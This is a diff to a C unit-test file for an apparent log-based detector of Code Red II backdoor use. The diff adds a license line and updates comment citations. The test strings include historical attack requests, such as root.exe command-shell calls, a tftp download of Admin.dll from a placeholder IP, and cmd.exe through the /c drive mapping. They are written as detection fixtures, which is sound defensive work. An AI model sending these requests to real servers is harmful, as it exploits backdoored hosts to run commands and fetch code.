@@ -1,4 +1,5 @@
-/* Use of Code Red II's backdoor (worm id "backdoor-use", worms.md §1.5-1.6):
+/* SPDX-License-Identifier: MIT */
+/* Use of Code Red II's backdoor (worm id "backdoor-use", [KB317605], [SANS-ACR2]):
  * commands through /scripts/root.exe and /MSADC/root.exe other than Nimda's
  * c+dir probes (Nimda's follow-up root.exe?/c+tftp), root.exe elsewhere, the
  * /c and /d drive mappings, root.exe without a command, and the error-log
@@ -16,7 +17,7 @@ static int parse_line(const char *rq, int status, struct ws_request *r)
 static void test_tftp_follow_up(void **state)
 {
 	(void)state;
-	/* worms.md §1.5: GET /scripts/root.exe?/c+tftp -i <ip> GET Admin.dll,
+	/* [KB317605]: GET /scripts/root.exe?/c+tftp -i <ip> GET Admin.dll,
 	 * as Apache logs it (spaces sent as %20). */
 	struct ws_request r;
 	assert_int_equal(
@@ -37,7 +38,7 @@ static void test_tftp_follow_up(void **state)
 static void test_other_commands(void **state)
 {
 	(void)state;
-	/* codered_x.sc's probe (worms.md §1.6): someone checking for the backdoor. */
+	/* codered_x.sc's probe ([SANS-ACR2]): someone checking for the backdoor. */
 	struct ws_request r = make_req("GET", "/scripts/root.exe", "/c+dir+c:\\+/OG", "HTTP/1.0",
 				       WS_TARGET_RAW);
 	expect(&r, "backdoor-use", WS_CONF_EXACT, "backdoor-use.root-exe", NULL);
@@ -68,7 +69,7 @@ static void test_drive_mappings(void **state)
 {
 	(void)state;
 	struct ws_request r;
-	/* The /c and /d virtual directories CRII creates (worms.md §1.6). */
+	/* The /c and /d virtual directories CRII creates ([SANS-ACR2]). */
 	assert_int_equal(parse_line("GET /c/winnt/system32/cmd.exe?/c+ver HTTP/1.0", 302, &r),
 			 WS_PARSE_OK);
 	expect(&r, "backdoor-use", WS_CONF_EXACT, "backdoor-use.drive-dir", NULL);
